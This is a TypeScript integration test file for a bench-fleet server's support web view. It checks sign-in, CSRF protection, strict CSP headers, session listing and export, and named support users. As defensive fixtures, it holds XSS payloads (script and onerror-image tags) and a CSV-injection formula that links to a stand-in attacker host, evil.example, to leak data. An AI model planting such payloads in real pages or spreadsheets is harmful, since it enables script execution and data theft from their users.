/**
 * The support web view on a real server with real benches: sign-in required (cookie session, CSRF-safe
 * forms), the sessions list with filters, a session's page with its steps, chart and integrity status,
 * exports, a strict CSP on every page, and a bench whose log carries markup shown escaped. SQLite and
 * PostgreSQL.
 */
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { CentralServer } from '../../server/central-server';
import { CONTENT_SECURITY_POLICY, SESSION_COOKIE } from '../../server/support/web/support-web';
import { TEST_ADMIN_TOKEN, TEST_SUPPORT_TOKEN, callAs, startTestServer } from '../helpers/central-server';
import { openFleetBench, type FleetBench } from '../helpers/fleet-bench';
import { createTestDatabase, describeEachDialect, type TestDatabase } from '../helpers/server-db';
import { useTempDirs } from '../helpers/temp-dir';
import { openTestBench, type TestBench } from '../helpers/test-bench';
import { newEnrolmentCode } from '../helpers/central-server';
import { SUPPORT_USERS_PATH } from '../../common/central-api/paths';

const XSS_SERIAL = '<img src=x onerror=alert(1)>';
const XSS_PART = '"><script>alert("part")</script>';
const XSS_LABEL = '</title><script>alert(2)</script>';

interface Page {
  status: number;
  headers: Headers;
  body: string;
}

describeEachDialect('support web view', (dialect) => {
  const tempDir = useTempDirs('all');
  let database: TestDatabase;
  let server: CentralServer;
  let bench: FleetBench;
  let hostile: TestBench;
  const sessionIds: string[] = [];

  beforeAll(async () => {
    database = await createTestDatabase(dialect, tempDir());
    server = await startTestServer(database.url);
    bench = await openFleetBench(tempDir(), server.url);
    sessionIds.push((await bench.runSession('INJ-W-0001')).sessionId);
    sessionIds.push((await bench.runSession('INJ-W-0002', { faults: { highLeak: true } })).sessionId);
    await bench.sync();
    // A bench whose signed log carries markup where names and numbers belong: shown, never run.
    hostile = openTestBench(tempDir());
    await hostile.outbox.enrol(server.url, await newEnrolmentCode(server.url));
    hostile.log.append('session.started', { sessionId: 'ses-20261122-hostile00001', partNumber: XSS_PART, serial: XSS_SERIAL });
    hostile.log.append('session.step', { sessionId: 'ses-20261122-hostile00001', id: XSS_LABEL, label: XSS_LABEL, nominalMm3: 40, measuredMm3: 41, toleranceMm3: 1.2, verdict: 'in_tolerance' });
    hostile.log.append('session.completed', { sessionId: 'ses-20261122-hostile00001', verdict: 'pass', reason: null, partNumber: XSS_PART, serial: XSS_SERIAL, pack: { family: '<b>fam</b>', version: '1.0.0', sha256: 'x' } });
    hostile.log.checkpoint();
    await hostile.outbox.drain({ maxDurationMs: 20_000 });
  }, 120_000);

  afterAll(async () => {
    hostile?.close();
    await bench?.close();
    await server?.close();
    await database?.drop();
  });

  async function get(route: string, cookie?: string): Promise<Page> {
    const response = await fetch(new URL(route, server.url), { redirect: 'manual', headers: cookie ? { cookie } : {} });
    return { status: response.status, headers: response.headers, body: await response.text() };
  }

  async function post(route: string, form: Record<string, string>, headers: Record<string, string> = {}): Promise<Page> {
    const response = await fetch(new URL(route, server.url), {
      method: 'POST',
      redirect: 'manual',
      headers: { 'content-type': 'application/x-www-form-urlencoded', origin: server.url, ...headers },
      body: new URLSearchParams(form).toString(),
    });
    return { status: response.status, headers: response.headers, body: await response.text() };
  }

  async function signIn(token = TEST_SUPPORT_TOKEN): Promise<string> {
    const answer = await post('/support/sign-in', { token });
    expect(answer.status).toBe(303);
    const setCookie = answer.headers.get('set-cookie') ?? '';
    expect(setCookie).toMatch(new RegExp(`^${SESSION_COOKIE}=[A-Za-z0-9_-]{43}; Path=/support; HttpOnly; SameSite=Strict; Max-Age=28800$`));
    return setCookie.split(';')[0] ?? '';
  }

  it('requires sign-in for every page and export, and refuses a wrong token or a form from another site', async () => {
    for (const route of ['/support/sessions', `/support/sessions/${bench.benchId}/${sessionIds[0]}`, `/support/sessions/${bench.benchId}/${sessionIds[0]}/export.json`, '/support/export?format=csv']) {
      const answer = await get(route);
      expect(answer.status, route).toBe(303);
      expect(answer.headers.get('location')).toBe('/support/sign-in');
    }
    // A bearer token is for the API; the web view takes only its own cookie.
    const withBearer = await fetch(new URL('/support/sessions', server.url), { redirect: 'manual', headers: { authorization: `Bearer ${TEST_SUPPORT_TOKEN}` } });
    expect(withBearer.status).toBe(303);
    expect((await get('/support/sessions', `${SESSION_COOKIE}=forged-cookie-value`)).status).toBe(303);

    const form = await get('/support/sign-in');
    expect(form.status).toBe(200);
    expect(form.body).toContain('<form class="signin" method="post" action="/support/sign-in">');
    const wrong = await post('/support/sign-in', { token: 'not-the-token' });
    expect(wrong.status).toBe(401);
    expect(wrong.headers.get('set-cookie')).toBeNull();
    expect(wrong.body).toContain('That token is not valid for this server.');
    const crossSite = await post('/support/sign-in', { token: TEST_SUPPORT_TOKEN }, { origin: 'http://evil.example' });
    expect(crossSite.status).toBe(403);
    expect(crossSite.headers.get('set-cookie')).toBeNull();
    const fetchedCrossSite = await post('/support/sign-in', { token: TEST_SUPPORT_TOKEN }, { 'sec-fetch-site': 'cross-site' });
    expect(fetchedCrossSite.status).toBe(403);
    const opaqueOrigin = await post('/support/sign-in', { token: TEST_SUPPORT_TOKEN }, { origin: 'null' });
    expect(opaqueOrigin.status).toBe(403);
  });

  it('sends a strict CSP (no script at all) and the hardening headers on every page', async () => {
    const cookie = await signIn();
    for (const route of ['/support/sign-in', '/support/sessions', `/support/sessions/${bench.benchId}/${sessionIds[0]}`, '/support/static/support.css']) {
      const page = await get(route, cookie);
      expect(page.status, route).toBe(200);
      expect(page.headers.get('content-security-policy')).toBe(CONTENT_SECURITY_POLICY);
      expect(CONTENT_SECURITY_POLICY).not.toMatch(/unsafe|script-src/);
      expect(page.headers.get('x-content-type-options')).toBe('nosniff');
      expect(page.headers.get('referrer-policy')).toBe('same-origin');
      expect(page.headers.get('cache-control')).toBe('no-store');
      // No script element, no event-handler attribute in any tag, no inline style: nothing the CSP would have to block.
      expect(page.body).not.toMatch(/<script|<[^>]*\son[a-z]+=|style="/i);
    }
  });

  it('lists sessions with filters and shows one session with its steps, chart and integrity status', async () => {
    const cookie = await signIn(TEST_ADMIN_TOKEN);
    const list = await get('/support/sessions', cookie);
    for (const id of sessionIds) expect(list.body).toContain(`href="/support/sessions/${bench.benchId}/${id}"`);
    expect(list.body).toContain('3 session(s)');
    const filtered = await get(`/support/sessions?serial=INJ-W-0002&bench=&from=&to=&outcome=&family=`, cookie);
    expect(filtered.body).toContain(sessionIds[1]);
    expect(filtered.body).not.toContain(sessionIds[0]);
    expect(filtered.body).toContain('<td class="outcome-failed">failed</td>');
    const byOutcome = await get(`/support/sessions?outcome=passed&bench=${bench.benchId}`, cookie);
    expect(byOutcome.body).toContain(sessionIds[0]);
    expect(byOutcome.body).not.toContain(sessionIds[1]);
    const invalid = await get('/support/sessions?from=not-a-date', cookie);
    expect(invalid.status).toBe(400);
    expect(invalid.body).toContain('Invalid filter from');

    const page = await get(`/support/sessions/${bench.benchId}/${sessionIds[0]}`, cookie);
    expect(page.status).toBe(200);
    expect(page.body).toContain('Integrity: intact and sealed');
    expect(page.body).toMatch(/<svg class="chart" role="img"[^>]*viewBox="0 0 640 260"/);
    // One band and one measured point per delivery step of the demo test plan.
    expect(page.body.match(/<circle /g)).toHaveLength(4);
    expect(page.body.match(/<rect /g)).toHaveLength(4);
    expect(page.body).toContain('<td class="payload">');
    const missing = await get(`/support/sessions/${bench.benchId}/ses-20990101-000000000000`, cookie);
    expect(missing.status).toBe(404);
    expect(missing.body).toContain('has reached this server');
  });

  it('exports one session or the filtered list as JSON and CSV', async () => {
    const cookie = await signIn();
    const json = await get(`/support/sessions/${bench.benchId}/${sessionIds[1]}/export.json`, cookie);
    expect(json.status).toBe(200);
    expect(json.headers.get('content-type')).toContain('application/json');
    expect(json.headers.get('content-disposition')).toBe(`attachment; filename="${sessionIds[1]}.json"`);
    const exported = JSON.parse(json.body) as { sessions: { session: { outcome: string; errorClass: string }; integrity: { status: string }; entries: unknown[] }[] };
    expect(exported.sessions[0]).toMatchObject({ session: { outcome: 'failed', errorClass: 'LEAK_FAIL' }, integrity: { status: 'sealed' } });
    const csv = await get(`/support/export?format=csv&bench=${bench.benchId}`, cookie);
    expect(csv.headers.get('content-type')).toContain('text/csv');
    const rows = csv.body.trim().split('\r\n');
    expect(rows[0]?.startsWith('bench_id,session_id,serial,')).toBe(true);
    expect(new Set(rows.slice(1).map((row) => row.split(',')[1]))).toEqual(new Set(sessionIds));
  });

  it('escapes bench data a spreadsheet would run as a formula in the CSV export (OWASP CSV injection)', async () => {
    const formulas = openTestBench(tempDir());
    try {
      await formulas.outbox.enrol(server.url, await newEnrolmentCode(server.url));
      const sessionId = 'ses-20261122-formula00001';
      const partNumber = '=HYPERLINK("http://evil.example/?leak","Open")';
      const serial = '@SUM(1+1)';
      formulas.log.append('session.started', { sessionId, partNumber, serial });
      formulas.log.append('session.completed', { sessionId, verdict: 'pass', reason: null, partNumber, serial, pack: { family: 'denso-like-g3', version: '1.0.0', sha256: 'x' } });
      formulas.log.checkpoint();
      await formulas.outbox.drain({ maxDurationMs: 20_000 });
      const csv = await get(`/support/export?format=csv&bench=${formulas.identity.benchId}`, await signIn());
      expect(csv.status).toBe(200);
      const rows = csv.body.trim().split('\r\n');
      expect(rows).toHaveLength(3);
      // bench_id,session_id,serial,part_number,…: each formula-like cell starts with a single quote.
      expect(rows[1]).toContain(`,${sessionId},'@SUM(1+1),"'=HYPERLINK(""http://evil.example/?leak"",""Open"")",`);
      expect(csv.body).not.toMatch(/(^|,)[=@]/m);
    } finally {
      formulas.close();
    }
  });

  it("escapes a hostile bench's markup everywhere it is shown", async () => {
    const cookie = await signIn();
    const list = await get('/support/sessions', cookie);
    const page = await get(`/support/sessions/${hostile.identity.benchId}/ses-20261122-hostile00001`, cookie);
    expect(page.status).toBe(200);
    for (const body of [list.body, page.body]) {
      expect(body).not.toContain('<script');
      expect(body).not.toContain('<img');
      expect(body).not.toContain('<b>fam');
      expect(body).toContain('&lt;img src=x onerror=alert(1)&gt;');
    }
    expect(page.body).toContain('&quot;&gt;&lt;script&gt;alert(&quot;part&quot;)&lt;/script&gt;');
    // Inside the SVG chart too (its <title> and labels).
    expect(page.body).toContain('&lt;/title&gt;&lt;script&gt;alert(2)&lt;/script&gt;');
  });

  it('signs out only with the CSRF token of the session, and the cookie is then dead', async () => {
    const cookie = await signIn();
    const list = await get('/support/sessions', cookie);
    const csrf = /name="csrf" value="([^"]+)"/.exec(list.body)?.[1] ?? '';
    expect(csrf).toMatch(/^[A-Za-z0-9_-]{32}$/);
    expect((await post('/support/sign-out', { csrf: 'forged' }, { cookie })).status).toBe(403);
    expect((await get('/support/sessions', cookie)).status).toBe(200);
    const out = await post('/support/sign-out', { csrf }, { cookie });
    expect(out.status).toBe(303);
    expect(out.headers.get('set-cookie')).toContain('Max-Age=0');
    expect((await get('/support/sessions', cookie)).status).toBe(303);
  });

  it('signs in named support users the admin created, and ends their sessions when disabled', async () => {
    expect((await callAs(TEST_SUPPORT_TOKEN, server.url, 'POST', SUPPORT_USERS_PATH, { name: 'ana' })).status).toBe(403);
    const created = await callAs(TEST_ADMIN_TOKEN, server.url, 'POST', SUPPORT_USERS_PATH, { name: 'ana' });
    expect(created.status).toBe(201);
    const { password } = created.body as { password: string };
    expect(password).toMatch(/^([a-z2-9]{4}-){5}[a-z2-9]{4}$/);
    expect((await callAs(TEST_ADMIN_TOKEN, server.url, 'POST', SUPPORT_USERS_PATH, { name: 'ana' })).body).toMatchObject({ error: { code: 'INVALID_REQUEST' } });

    expect((await post('/support/sign-in', { name: 'ana', token: 'wrong-password' })).status).toBe(401);
    expect((await post('/support/sign-in', { name: 'nobody', token: password })).status).toBe(401);
    // The support token is not a password of a named user.
    expect((await post('/support/sign-in', { name: 'ana', token: TEST_SUPPORT_TOKEN })).status).toBe(401);
    const answer = await post('/support/sign-in', { name: 'ana', token: password });
    expect(answer.status).toBe(303);
    const cookie = (answer.headers.get('set-cookie') ?? '').split(';')[0] ?? '';
    const list = await get('/support/sessions', cookie);
    expect(list.status).toBe(200);
    expect(list.body).toContain('Signed in as ana');
    const withToken = await get('/support/sessions', await signIn());
    expect(withToken.body).toContain('Signed in as the support token');

    const disabled = await callAs(TEST_ADMIN_TOKEN, server.url, 'POST', `${SUPPORT_USERS_PATH}/ana/disable`, {});
    expect(disabled).toMatchObject({ status: 200, body: { name: 'ana', disabled: true } });
    expect((await get('/support/sessions', cookie)).status).toBe(303);
    expect((await post('/support/sign-in', { name: 'ana', token: password })).status).toBe(401);
    const users = (await callAs(TEST_ADMIN_TOKEN, server.url, 'GET', SUPPORT_USERS_PATH)).body as { name: string; disabledAt: string | null }[];
    expect(users).toEqual([expect.objectContaining({ name: 'ana', disabledAt: expect.any(String) })]);
    expect(JSON.stringify(users)).not.toContain('scrypt');
  });
});
